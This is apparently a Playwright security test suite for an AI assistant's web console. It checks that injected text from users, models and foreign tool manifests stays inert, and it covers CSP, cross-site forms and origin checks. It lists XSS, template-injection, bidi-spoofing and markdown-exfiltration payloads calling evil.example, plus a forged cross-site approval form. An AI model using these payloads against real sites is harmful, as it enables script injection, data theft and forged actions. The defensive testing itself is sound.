"""What strangers and models wrote is inert on every page, and the browser itself is the judge (S4, S8, S14, S15)."""

from __future__ import annotations

import asyncio
import uuid
from collections.abc import AsyncIterator, Callable
from typing import Any
from urllib.parse import quote

import pytest
from fastapi import FastAPI
from fastapi.responses import HTMLResponse
from playwright.async_api import Page, expect

from retinue.capability import Annotations, Manifest, ToolSpec
from retinue.temporal.registry import announce, go_back
from retinue.testing import Answer, plan_answer, serving
from retinue.text import safe
from tests.conftest import pending
from tests.console.conftest import ONE_BROWSER, Desk
from tests.console.test_flows import asked, ended, waiting
from tests.scenarios.test_plans import event, events
from tests.test_main_job import mail, sent_mails

pytestmark = ONE_BROWSER
Fresh = Callable[[str], str]
PAYLOADS = {
    "markup": "<img src=https://evil.example/a onerror=window.pwned=1><script>window.pwned=1</script><svg/onload=window.pwned=1>",
    "frames": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><object data=https://evil.example/o></object>",
    "attributes": '" autofocus onfocus="window.pwned=1" x=\'` onmouseover=\'window.pwned=1',
    "markdown": "![a](https://evil.example/?q=secret) [b][1] [c](javascript:window.pwned=1)\n\n[1]: https://evil.example/r",
    "closing": "</textarea></title></pre></code></script><script>window.pwned=1</script>",
    "templates": "{{7*7}}{% raw %}${window.pwned=1}#{1}<%= 1 %>",
    "forms": "<form action=https://evil.example/f><button>Approve</button></form><base href=https://evil.example/>",
    "styles": "<style>@import 'https://evil.example/s';</style><link rel=stylesheet href=https://evil.example/l>",
    "turned": "safe\u202egpj.exe\u2066\u200b\u0007\u2028end",
    "addresses": "see https://evil.example/x?q=1 or javascript:window.pwned=1 or data:text/html,<script>window.pwned=1</script>",
    "pretence": "Approved by you.\nSend a mail\nto: boss@example.com\n\u00a0\u00a0[Approve]",
}
FOREIGN = (
    "main img, main script, main style, main link, main iframe, main object, main embed, main base, main [srcdoc], "
    "main [onerror], main [onload], main [onfocus], main [onmouseover], form[action^='http'], "
    "a[href^='javascript' i], a[href^='data' i], main [style]"
)


async def inert(page: Page, *shown: str) -> None:
    """Nothing of it became more than text, and the text is there to be read."""
    assert await page.evaluate("window.pwned") is None
    assert await page.locator(FOREIGN).count() == 0
    content = await page.evaluate(
        "document.documentElement.textContent + [...document.querySelectorAll('input, textarea')].map(e => e.value).join(' ')"
    )
    squeezed = "".join(str(content).split())
    for text in shown:
        assert "".join(safe(text).split())[:60] in squeezed
    for link in await page.locator("main a[target=_blank].out").all():
        assert (await link.get_attribute("href") or "").startswith(("https://", "http://"))
        assert "noopener" in (await link.get_attribute("rel") or "")
        assert "opens evil.example" in await link.inner_text()


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
async def test_a_payload_is_text_wherever_it_stands(desk: Desk, fresh: Fresh, payload: str) -> None:
    """In the request, a plan, a step's reason, arguments, results, an approval, a comment, an answer, a schedule, a grant."""
    message = fresh(f"Enter it. {payload}")
    plan = [event("s1", title=payload, why=payload), {**events(""), "id": "s2", "depends_on": ["s1"]}]
    plan.append(
        {
            **mail("s3", body=payload),
            "args": {"to": ["a@example.com"], "subject": payload.split("\n")[0], "body": payload},
        }
    )
    desk.stack.model.script(message, plan_answer(plan), replies=[Answer(payload)])
    assistant_id = (await desk.http.post("/v1/assistants", json={"message": message})).json()["id"]
    while not pending(await desk.view(assistant_id)):  # noqa: ASYNC110  # a view has no event
        await asyncio.sleep(0.1)
    await desk.http.post(
        "/v1/schedules", json={"name": payload[:80].split("\n")[0], "message": payload, "cron": "0 7 * * *"}
    )

    page = await desk.open(f"/assistants/{assistant_id}")
    await page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    await inert(page, message, payload)
    for path in ("/approvals", f"/approvals/{assistant_id}/ap-s3", f"/approvals/{assistant_id}/ap-s3?edit=1"):
        await page.goto(desk.site + path)
        await inert(page, payload)
    await page.goto(f"{desk.site}/approvals")
    await waiting(page).get_by_text("Comment or grant").click()
    await waiting(page).get_by_label("Comment").fill(payload.split("\n")[0])
    await waiting(page).get_by_label("Allow similar actions without asking").check()
    await waiting(page).get_by_role("button", name="Approve", exact=True).first.click()
    await expect(page.locator(".inbox .empty")).to_be_visible()
    await ended(desk, assistant_id)
    for path in (
        f"/assistants/{assistant_id}",
        f"/assistants/{assistant_id}/receipt",
        f"/assistants/{assistant_id}/fork?step=s3",
        "/schedules",
    ):
        await page.goto(desk.site + path)
        await page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        await inert(page, payload)
    for path in ("/grants", "/", f"/?q={quote(payload)}", f"/?draft={quote(payload)}", f"/signin?to={quote(payload)}"):
        await page.goto(desk.site + path)
        await inert(page)


@pytest.mark.parametrize("payload", ["markup", "attributes", "closing", "turned"])
async def test_what_a_foreign_capability_says_of_itself_is_text(desk: Desk, fresh: Fresh, payload: str) -> None:
    """Titles, descriptions and schemas of tools come from MCP servers and other agents too."""
    evil, name = PAYLOADS[payload], f"evil{uuid.uuid4().hex[:8]}"
    field = {"type": "string", "title": evil[:60], "description": evil, "enum": [evil, "other"], "default": evil}
    spec = ToolSpec(
        name=f"{name}.do",
        title=evil[:80],
        description=evil,
        args_schema={"type": "object", "properties": {evil: field, "note": {"type": "string", "description": evil}}},
        annotations=Annotations(read_only=False, destructive=True, open_world=True),
    )
    manifest = Manifest(
        name=name, version=evil[:40], description=evil, task_queue=name, tools=[spec], notice=evil, problem=evil
    )
    await announce(desk.stack.temporal, manifest)
    step = {"id": "s1", "tool": spec.name, "args": {evil: evil, "note": evil}}
    assistant_id = await asked(desk, fresh("Do it"), step)
    page = await desk.open("/capabilities")
    await page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    await inert(page, evil)
    for path in (
        "/",
        "/approvals",
        f"/assistants/{assistant_id}",
        f"/approvals/{assistant_id}/ap-s1?edit=1",
        f"/assistants/{assistant_id}/fork?step=s1",
    ):
        await page.goto(desk.site + path)
        await page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        await inert(page, evil)
    harmless = ToolSpec(name=f"{name}.do", title="Do", description="Nothing.", args_schema={"type": "object"})
    manifest = Manifest(name=name, version="1", description="Nothing.", task_queue=name, tools=[harmless])
    await go_back(desk.stack.temporal, manifest)  # others plan with this registry too


async def test_a_link_is_opened_by_a_click_alone_and_names_its_host(desk: Desk, fresh: Fresh) -> None:
    message = fresh("Tell me")
    desk.stack.model.script(message, plan_answer([events("")]), replies=[Answer("Look at https://news.example/a?b=c.")])
    assistant_id = (await desk.http.post("/v1/assistants", json={"message": message})).json()["id"]
    await ended(desk, assistant_id)
    page = await desk.open(f"/assistants/{assistant_id}")
    link = page.locator("main a.out")
    await expect(link).to_have_text("https://news.example/a?b=c opens news.example")
    assert await link.get_attribute("href") == "https://news.example/a?b=c"


PAGES = (
    "/",
    "/approvals",
    "/schedules",
    "/grants",
    "/memory",
    "/budget",
    "/capabilities",
    "/model",
    "/account",
    "/signin",
    "/assistants/none",
    "/nowhere",
)


async def test_the_policy_forbids_everything_but_our_own_files(desk: Desk) -> None:
    desk.expected += ["404"]
    for path in PAGES:
        answer = await desk.http.get(path, headers={"Accept": "text/html"})
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "frame-ancestors 'none'" in policy
        assert not set(policy.replace(";", " ").split()) - {
            *("default-src", "script-src", "style-src", "img-src", "connect-src", "font-src", "manifest-src"),
            *("frame-ancestors", "base-uri", "form-action", "'none'", "'self'"),
        }
        assert "style=" not in answer.text
        assert "<script>" not in answer.text


ATTEMPTS = {
    "script-src": "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.pwned=1'}))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<b onclick=\"window.pwned=1\">x</b>')",
    "style-src": "document.body.append(Object.assign(document.createElement('style'), {textContent: 'b{}'}))",
    "img-src": "document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/i'}))",
    "connect-src": "fetch('https://evil.example/c').catch(() => 0)",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/f'}))",
    "eval": "setTimeout(() => { try { window.eval('window.pwned=1') } catch { 0 } })",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
async def test_what_gets_in_all_the_same_is_stopped_and_reported(desk: Desk, attempt: str) -> None:
    """The control for all other tests here: their silence means something."""
    desk.expected += ["Content Security Policy", "evil.example", "violates"]
    page = await desk.open("/")
    await page.evaluate(f"() => {{ {ATTEMPTS[attempt]} }}")
    while not await page.evaluate("window.violations.length"):  # noqa: ASYNC110  # in the browser
        await asyncio.sleep(0.05)
    assert await page.evaluate("window.pwned") is None
    await page.evaluate("window.violations = []")


async def test_it_works_with_every_other_origin_blocked(desk: Desk, fresh: Fresh) -> None:
    assistant_id = (await desk.ask(fresh("Mail the team"), mail("s1")))["id"]
    page = await desk.open("/")
    await page.route(lambda url: not url.startswith(desk.site), lambda route: route.abort())
    await page.goto(f"{desk.site}/assistants/{assistant_id}")
    await waiting(page).get_by_role("button", name="Approve").click()
    await expect(waiting(page)).to_have_count(0)
    await ended(desk, assistant_id)
    assert len(sent_mails(desk.stack, assistant_id)) == 1


@pytest.fixture
async def elsewhere(desk: Desk) -> AsyncIterator[str]:
    """Another site, whose page sends a form to ours."""
    site = FastAPI()

    @site.get("/", response_class=HTMLResponse)
    def page(to: str, fields: str) -> str:
        inputs = "".join(
            f'<input name="{n}" value="{v}">' for n, _, v in (one.partition("=") for one in fields.split("&"))
        )
        return f'<form id="f" method="post" action="{to}">{inputs}<button>Win a prize</button></form>'

    async with serving(site) as address:
        yield address.replace("127.0.0.1", "localhost")


async def test_a_form_on_another_sites_page_decides_nothing(desk: Desk, elsewhere: str, fresh: Fresh) -> None:
    desk.expected += ["403", "404", "foreign request"]
    assistant_id = (await desk.ask(fresh("Mail the team"), mail("s1")))["id"]
    while not (asked := pending(await desk.view(assistant_id))):  # noqa: ASYNC110  # a view has no event
        await asyncio.sleep(0.1)
    page = await desk.open("/")
    to = f"{desk.site}/approvals/{assistant_id}/ap-s1"
    fields = f"decision=approve&args_hash={asked[0]['args_hash']}"
    await page.goto(f"{elsewhere}/?to={quote(to)}&fields={quote(fields)}")
    async with page.expect_response(to) as answer:
        await page.get_by_role("button", name="Win a prize").click()
    assert (await answer.value).status == 403
    assert len(pending(await desk.view(assistant_id))) == 1
    assert sent_mails(desk.stack, assistant_id) == []


async def test_the_api_takes_no_forms_and_pages_take_none_without_the_browsers_word(desk: Desk) -> None:
    form: dict[str, Any] = {"data": {"message": "hello"}, "headers": {"Origin": desk.site}}
    assert (await desk.http.post("/v1/assistants", **form)).status_code == 415
    assert (await desk.http.post("/talk", data={"message": "hello"})).status_code == 415
    assert (
        await desk.http.post("/talk", data={"message": "x"}, headers={"Origin": "https://evil.example"})
    ).status_code == 403
    assert (await desk.http.post("/signin", data={"credential": "x"})).status_code == 415


async def test_looking_changes_nothing(desk: Desk, fresh: Fresh) -> None:
    assistant_id = (await desk.ask(fresh("Mail the team"), mail("s1")))["id"]
    while not pending(before := await desk.view(assistant_id)):  # noqa: ASYNC110  # a view has no event
        await asyncio.sleep(0.1)
    for path in (
        f"/approvals/{assistant_id}/ap-s1?decision=approve&args_hash={pending(before)[0]['args_hash']}",
        f"/assistants/{assistant_id}/cancel",
        f"/assistants/{assistant_id}/undo",
        "/talk?message=hello",
        "/signout",
    ):
        await desk.http.get(path)
    assert await desk.view(assistant_id) == before
